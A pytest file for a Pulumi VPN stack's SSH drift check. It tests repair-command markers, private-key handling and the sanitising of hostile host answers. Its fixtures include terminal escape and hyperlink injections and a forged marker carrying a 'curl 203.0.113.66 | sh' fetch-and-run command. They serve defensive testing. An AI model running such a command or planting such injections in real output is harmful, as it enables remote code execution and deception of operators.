"""The drift check under mocks: its reads go through the engine (the mocks' call answers them), a drifted host
gets its marker in its repair command, and a hostile answer is that host's warning, the others read as usual."""

from __future__ import annotations

import base64
import re
import shlex

import pulumi
import pytest
import wgmocks as m

import components.drift_check
from wgsites.operations.host_drift import ANSWER_LIMIT
from wgsites.stack.keys import generate_private_key, public_key_of

MARKER = "drift 0123456789abcdef (repair 1)"
ALPHA, BETA = "10.10.10.1", "10.10.11.1"  # the sites stack's two SSH hosts
HOST_KEY, PEER, STRANGER = (public_key_of(generate_private_key()) for _ in range(3))


def state(owner: str, port: str = "51820", stranger: bool = True, repaired: str = "-") -> str:
    """A host's `state` answer, as its install script prints it: a peer added by hand when STRANGER."""
    config = f"[Interface]\nAddress = 10.10.0.1/24\nListenPort = 51820\n\n[Peer]\nPublicKey = {PEER}\nAllowedIPs = 10.10.0.2/32\n"
    dump = [f"(hidden)\t{HOST_KEY}\t{port}\toff", f"{PEER}\t(none)\t(none)\t10.10.0.2/32\t0\t0\t0\toff"]
    if stranger:
        dump.append(f"{STRANGER}\t(none)\t(none)\t10.10.0.99/32\t0\t0\t0\toff")
    head = [f"installed yes\nowner {owner}\nkey {HOST_KEY}\nrepaired {repaired}\npsk no"]
    return "\n".join([*head, "[dump]", *dump, "[config]", config])


def test_a_host_that_drifted_gets_its_marker_in_the_repair_command(monkeypatch):
    monkeypatch.setattr(components.drift_check, "read_markers", lambda vpn, stack, access: {"home": MARKER})
    run = m.run_stack("home")
    repair = run.mocks.named("vpn-home-repair").inputs
    assert "update" not in repair  # an update runs create: the script once less in the state
    assert repair["create"].endswith(f" wgsites-install repair {shlex.quote(MARKER)}")
    request = run.mocks.requests["vpn-home-repair"]
    assert list(request.ignoreChanges) == []
    assert any(dep.endswith("::vpn-home-install") for dep in request.dependencies)  # after the push
    assert "delete" not in repair  # a replacement or a rename never undoes anything


def test_a_host_not_read_keeps_its_repair_command_as_the_state_has_it():
    run = m.run_stack("home")  # the mocks answer every read as a host that refuses the connection
    assert run.mocks.named("vpn-home-repair").inputs["create"].endswith(" wgsites-install repair ''")
    assert sorted(run.mocks.requests["vpn-home-repair"].ignoreChanges) == ["create", "update"]


@pytest.mark.parametrize("value", ["false", "true", None])
def test_the_drift_check_reads_through_the_engine_only_when_on(value):
    run = m.run_stack("sites", config={} if value is None else {"wgsites:driftCheck": value})
    hosts = sorted(m.unwrap(c.args["environment"])["WGSITES_SSH_TARGET"] for c in run.mocks.reads())
    assert hosts == ([] if value == "false" else [f"root@{ALPHA}", f"root@{BETA}"])  # on by default


def test_the_key_reaches_the_read_only_on_its_stdin(tmp_path):
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5IGF0IGFsbA==\n-----END OPENSSH PRIVATE KEY-----\n"
    password = "correct horse battery staple"
    config = {"wgsites:sshPrivateKey": key, "wgsites:sshPrivateKeyPassword": password}
    run = m.run_stack("sites", config=config, secret_keys=list(config))
    for call in run.mocks.reads():
        args = m.unwrap(call.args)
        assert args["stdin"] == key and args["environment"]["WGSITES_SSH_PASSPHRASE"] == password
        assert args["logging"] == "none"  # the engine shows nothing the read prints
        for name, text in [("command", args["command"]), *args["environment"].items()]:
            if name != "WGSITES_SSH_PASSPHRASE":
                assert "PRIVATE KEY" not in text and password not in text, name


HOSTILE = {
    "every byte value": bytes(range(256)) * 4,
    "escape sequences": state("sites/alpha").replace("repaired -", "repaired \x1b]0;owned\x07\x1b[2J\x1b[H").encode(),
    "a hyperlink": state("sites/alpha").replace("psk no", "psk \x1b]8;;http://203.0.113.66/\x1b\\ok\x1b]8;;\x1b\\").encode(),
    "over the cap": b"installed yes\n" + b"A" * ANSWER_LIMIT,
    "over the cap, the host's script then failing": (1, b"A" * (ANSWER_LIMIT + 1), b"printf: write error\n"),
    "over the cap, ssh then failing": (255, b"A" * (ANSWER_LIMIT + 1), b"\x1b[2J"),
    "a non-ASCII digit port": state("sites/alpha", port="\u00b2").encode(),
    "an Arabic-Indic digit port": state("sites/alpha", port="\u0665\u0661\u0668\u0662\u0660").encode(),
    "5000 digits": state("sites/alpha", port="5" * 5000).encode(),
    "NaN": state("sites/alpha", port="NaN").encode(),
    "a forged marker": state("sites/alpha", stranger=False, repaired="run curl 203.0.113.66 | sh (repair 7)").encode(),
    "not UTF-8": state("sites/alpha").encode() + b"\xff\xfe",
}


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_answer_is_that_hosts_warning_and_the_other_host_is_read(monkeypatch, answer):
    warnings = []
    monkeypatch.setattr(pulumi.log, "warn", lambda message, *args, **kwargs: warnings.append(message))
    run = m.run_stack("sites", drift_answers={ALPHA: answer, BETA: state("sites/beta")})
    beta = run.mocks.named("vpn-beta-repair").inputs["create"]
    assert re.search(r" wgsites-install repair 'drift [0-9a-f]{16} \(repair 1\)'$", beta), beta  # read as usual
    assert list(run.mocks.requests["vpn-beta-repair"].ignoreChanges) == []
    alpha = run.mocks.named("vpn-alpha-repair").inputs["create"]
    if answer is HOSTILE["a forged marker"]:  # in sync, but its record is none of ours: no host text as the argument
        assert alpha.endswith(" wgsites-install repair ''") and "curl" not in alpha
        assert warnings == []
        return
    assert alpha.endswith(" wgsites-install repair ''")
    assert sorted(run.mocks.requests["vpn-alpha-repair"].ignoreChanges) == ["create", "update"]  # as the state has it
    [warning] = warnings
    assert warning.startswith(f"alpha: what it runs could not be read ({ALPHA}: its answer is not a state wgsites reads (")
    assert warning.isascii() and warning.isprintable() and "owned" not in warning and "203.0.113.66" not in warning


def test_an_ssh_failure_is_a_warning_with_its_message_escaped(monkeypatch):
    warnings = []
    monkeypatch.setattr(pulumi.log, "warn", lambda message, *args, **kwargs: warnings.append(message))
    stderr = "Warning: \x1b]0;pwned\x07\x1b[31mred\u202e\nssh: connect to host x port 22: \x1b[2JConnection refused\n"
    answers = {ALPHA: (255, b"", stderr.encode()), BETA: (3, b"", b"\x1b[2J")}
    m.run_stack("sites", drift_answers=answers)
    assert sorted(warnings) == [
        "alpha: what it runs could not be read (root@10.10.10.1:22: nothing listens on port 22 (sshd stopped, or on "
        "another port); start sshd on 10.10.10.1 (systemctl start ssh) or set the stack's ssh.port to its port); "
        "no drift check for it this time",
        "beta: what it runs could not be read (its install script exited 3); no drift check for it this time",
    ]
    # a failure ssh words in no way status knows: its last line, escaped
    warnings.clear()
    stderr = "Warning: \x1b]0;pwned\x07\nkex: \x1b[2Jsomething\u202e broke\n"
    m.run_stack("sites", drift_answers={ALPHA: (255, b"", stderr.encode()), BETA: (3, b"", b"")})
    assert sorted(warnings)[0] == (
        "alpha: what it runs could not be read (root@10.10.10.1:22: ssh failed (kex: \\x1b[2Jsomething\\u202e broke); "
        "try it by hand: ssh -p 22 root@10.10.10.1); no drift check for it this time"
    ), warnings


def test_an_invoke_that_gives_no_answer_of_ours_is_a_warning(monkeypatch):
    warnings = []
    monkeypatch.setattr(pulumi.log, "warn", lambda message, *args, **kwargs: warnings.append(message))
    answers = {ALPHA: "not base64 \x1b[2J", BETA: base64.b64encode(b"x").decode()}
    run = m.run_stack("sites", drift_answers={h: ("raw", a) for h, a in answers.items()})
    assert len(warnings) == 2 and all("command:local:run gave no answer of wgsites' read" in w for w in warnings), warnings
    assert sorted(run.mocks.requests["vpn-alpha-repair"].ignoreChanges) == ["create", "update"]
